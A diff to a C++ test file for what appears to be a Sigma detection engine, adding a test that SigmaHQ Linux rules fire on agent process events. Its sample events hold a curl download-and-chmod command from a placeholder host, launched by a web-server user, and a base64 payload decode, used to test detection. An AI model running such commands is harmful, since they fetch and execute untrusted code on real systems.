@@ -6,6 +6,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
@@ -165,6 +166,52 @@ TEST(SigmaConformance, EngineEqualsOracleOnFullRulesetAndAllRegressionEvents) {
               << " events, " << matches << " matches, identical in both engines\n";
     EXPECT_GT(matches, 0u);
   }
+}
+
+// Linux process events as the agent's live source renders them (Otasuke JSON) meet the
+// SigmaHQ Linux rules unchanged.
+TEST(SigmaConformance, SigmaHqLinuxRulesFireOnAgentProcessEvents) {
+  const std::string root = SharedDir() + "/rulesets/sigma/rules/linux";
+  if (!fs::exists(root)) GTEST_SKIP() << root << " absent";
+  auto files = ReadRuleFiles({root});
+  ASSERT_TRUE(files.ok()) << files.status();
+  auto compiled = CompileSigmaRules(*files);
+  ASSERT_TRUE(compiled.ok()) << compiled.status();
+  const std::string events =
+      R"({"time":"2026-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},)"
+      R"("event":{"Image":"/usr/bin/bash","CommandLine":"sh -c /usr/bin/curl -s http://203.0.113.9/x -o /tmp/x; chmod +x /tmp/x","User":"www-data","ProcessId":"4242","ParentImage":"/usr/sbin/apache2"}})"
+      "\n"
+      R"({"time":"2026-01-02T03:04:06Z","logsource":{"product":"linux","category":"process_creation"},)"
+      R"("event":{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/payload.b64","User":"www-data","ProcessId":"4243"}})"
+      "\n"
+      R"({"time":"2026-01-02T03:04:07Z","logsource":{"product":"linux","category":"process_creation"},)"
+      R"("event":{"Image":"/usr/bin/ls","CommandLine":"ls -la /home","User":"alice","ProcessId":"4244"}})"
+      "\n";
+  SigmaEngine engine;
+  RuleByRuleEngine oracle;
+  std::vector<std::vector<std::string>> fired;
+  readers::ReadStats stats;
+  ASSERT_TRUE(readers::ReadEvents(
+                  events, "linux.json",
+                  [&](const Event& e) {
+                    std::vector<uint32_t> a, b;
+                    engine.Match(*compiled->rules, e, &a);
+                    oracle.Match(*compiled->rules, e, &b);
+                    EXPECT_EQ(a, b);
+                    fired.emplace_back();
+                    for (uint32_t r : a) {
+                      fired.back().push_back(compiled->rules->rules()[r].meta.id);
+                    }
+                  },
+                  &stats)
+                  .ok());
+  ASSERT_EQ(fired.size(), 3u);
+  auto has = [](const std::vector<std::string>& ids, const std::string& id) {
+    return std::find(ids.begin(), ids.end(), id) != ids.end();
+  };
+  EXPECT_TRUE(has(fired[0], "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa"));  // curl/wget exec in /tmp
+  EXPECT_TRUE(has(fired[1], "e2072cab-8c9a-459b-b63c-40ae79e27031"));  // base64 decode
+  EXPECT_TRUE(fired[2].empty()) << fired[2].size() << " rule(s) on a plain ls";
 }
 
 }  // namespace
